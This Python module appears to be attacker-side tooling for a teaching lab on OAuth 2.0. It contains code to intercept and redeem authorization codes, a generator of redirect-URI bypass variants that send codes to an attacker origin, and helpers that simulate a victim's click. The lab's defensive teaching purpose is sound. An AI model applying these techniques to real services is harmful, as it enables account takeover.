"""Attacker tooling for OAuth 2.0 flows (lab 04-oauth): browsers, redirects, stolen codes.

Everything works over plain HTTP with httpx, as an attacker's scripts would: a "browser" is an
``httpx.Client`` with its own cookie jar that does not follow redirects by itself, so every hop
of a flow (and every code or token in a ``Location``) can be looked at — or taken.
"""

from __future__ import annotations

import base64
import hashlib
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qsl, urlencode, urljoin, urlsplit, urlunsplit

import httpx

__all__ = [
    "Trip",
    "authorize_url",
    "browser",
    "captured",
    "follow",
    "fragment_params",
    "query_params",
    "redeem",
    "redirect_uri_tricks",
    "s256",
    "sign_in",
    "victim_click",
]

MAX_HOPS = 12


@dataclass
class Trip:
    """Where a browser went: every URL visited, the last response, and where it stopped."""

    urls: list[str] = field(default_factory=list)
    response: httpx.Response | None = None
    stopped_at: str | None = None


def browser() -> httpx.Client:
    """A fresh browser: own cookie jar, redirects followed only by :func:`follow`."""
    return httpx.Client(follow_redirects=False, trust_env=False, timeout=30.0)


def sign_in(http: httpx.Client, server_url: str, email: str, password: str) -> httpx.Response:
    """Log ``http`` in at the authorization server (its session cookie lands in the jar)."""
    return http.post(server_url + "/session", json={"email": email, "password": password})


def follow(
    http: httpx.Client, url: str, *, stop_at: str | None = None, max_hops: int = MAX_HOPS
) -> Trip:
    """GET ``url`` and follow redirects; stop *before* any URL starting with ``stop_at``.

    Stopping before the client's callback is how an attacker keeps a code for themselves:
    the URL is in ``trip.stopped_at`` and was never delivered.
    """
    trip = Trip()
    current = url
    for _ in range(max_hops):
        if stop_at is not None and current.startswith(stop_at):
            trip.stopped_at = current
            return trip
        if urlsplit(current).scheme not in ("http", "https"):
            trip.stopped_at = current  # a custom scheme: handed to whichever app claims it
            return trip
        trip.urls.append(current)
        trip.response = http.get(current)
        location = trip.response.headers.get("location")
        if not (trip.response.is_redirect and location):
            return trip
        current = urljoin(current, location)
    return trip


def query_params(url: str) -> dict[str, str]:
    """The query parameters of ``url`` (where a code arrives)."""
    return dict(parse_qsl(urlsplit(url).query, keep_blank_values=True))


def fragment_params(url: str) -> dict[str, str]:
    """The fragment parameters of ``url`` (where the implicit grant puts the token)."""
    return dict(parse_qsl(urlsplit(url).fragment, keep_blank_values=True))


def authorize_url(server_url: str, **params: str) -> str:
    """``<server>/authorize?...`` with ``params`` (``response_type``, ``client_id``...)."""
    return f"{server_url}/authorize?{urlencode(params)}"


def redeem(
    http: httpx.Client,
    server_url: str,
    code: str,
    *,
    client_id: str,
    redirect_uri: str | None = None,
    code_verifier: str | None = None,
    client_secret: str | None = None,
) -> httpx.Response:
    """POST a stolen ``code`` to the token endpoint (RFC 6749 §4.1.3) as ``client_id``."""
    form = {"grant_type": "authorization_code", "code": code, "client_id": client_id}
    if redirect_uri is not None:
        form["redirect_uri"] = redirect_uri
    if code_verifier is not None:
        form["code_verifier"] = code_verifier
    if client_secret is not None:
        form["client_secret"] = client_secret
    return http.post(server_url + "/token", data=form)


def s256(verifier: str) -> str:
    """The ``S256`` code challenge of ``verifier``: BASE64URL(SHA256(verifier)), RFC 7636 §4.2."""
    digest = hashlib.sha256(verifier.encode("ascii")).digest()
    return base64.urlsafe_b64encode(digest).rstrip(b"=").decode()


def redirect_uri_tricks(registered: str, attacker: str) -> dict[str, str]:
    """One variant of ``registered`` per classic trick against lax redirect URI matching.

    ``attacker`` is the attacker's origin (``http://host:port``). Each variant differs from
    the registered URI in one way. ``@`` lands on the attacker's host; ``port`` on the
    attacker's port of the client's host (in the lab both are the attacker's site). The others
    reach attacker-controlled pages in the real world: a sub-path, an open redirect behind
    ``..``, a parameter the callback page forwards, a case-insensitive router, plain HTTP.
    """
    reg = urlsplit(registered)
    evil = urlsplit(attacker)
    return {
        "prefix": registered + "/attacker",
        "..": registered + "/../attacker",
        "@": urlunsplit(reg._replace(netloc=f"{reg.netloc}@{evil.netloc}")),
        "extra query": registered + "?next=" + attacker,
        "case": urlunsplit(reg._replace(path=reg.path.upper())),
        "scheme": urlunsplit(reg._replace(scheme="https" if reg.scheme == "http" else "http")),
        "port": urlunsplit(reg._replace(netloc=f"{reg.hostname}:{evil.port or 8080}")),
    }


def victim_click(
    server_url: str, url: str, *, intercept: str | None = None, fresh: bool = False
) -> dict[str, Any]:
    """Send the lab's victim (alice, logged in at the server) a link; she clicks it.

    ``intercept``: a URL prefix claimed by a malicious app on her device — a redirect there
    is handed to the attacker (``result["intercepted"]``) instead of followed. Returns her
    browser's ``history`` (every URL, status and ``Location``) and the ``final`` page.
    """
    with httpx.Client(trust_env=False, timeout=60.0) as http:
        response = http.post(
            server_url + "/api/_lab/victim/click",
            json={"url": url, "intercept": intercept, "fresh": fresh},
        )
    response.raise_for_status()
    return response.json()


def captured(attacker_url: str) -> list[dict[str, Any]]:
    """Every request the attacker's site has received (path, query, URL)."""
    with httpx.Client(trust_env=False, timeout=30.0) as http:
        return http.get(attacker_url + "/api/_lab/captured").json()
